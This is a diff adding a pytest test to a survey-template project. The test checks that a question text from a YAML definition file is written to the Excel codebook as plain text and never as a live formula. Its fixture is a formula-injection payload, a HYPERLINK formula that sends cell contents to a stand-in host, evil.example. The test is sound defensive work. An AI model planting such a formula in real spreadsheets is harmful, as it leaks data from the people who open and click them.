@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shutil
 from pathlib import Path
 
 import openpyxl
@@ -122,3 +123,22 @@ def test_an_xlsform_admits_a_numeric_missing_code_beside_the_range(
     warnings: list[str] = []
     assert "or . = -1" in convert(str(path), warnings=warnings).xform
     assert warnings == []
+
+
+def test_excel_template_writes_formula_like_definition_text_as_text(
+    framework_dir: Path, tmp_path: Path
+) -> None:
+    # A question is text from a definition file: a spreadsheet must show it, never run it.
+    folder = tmp_path / "framework"
+    shutil.copytree(framework_dir, folder)
+    sources = folder / "sources" / "validation_sources.yaml"
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    sources.write_text(sources.read_text(encoding="utf-8").replace(
+        "question: I understand how decisions about schools are made.",
+        f"question: '{hostile}'"), encoding="utf-8")
+    path = write_template("test_survey", tmp_path / "survey.xlsx",
+                          framework=load_framework(folder))[0]
+    book = openpyxl.load_workbook(path)["codebook"]
+    cells = [c for row in book.iter_rows() for c in row if c.value == hostile]
+    assert cells, "the question is in the codebook as written"
+    assert all(c.data_type == "s" for c in cells)
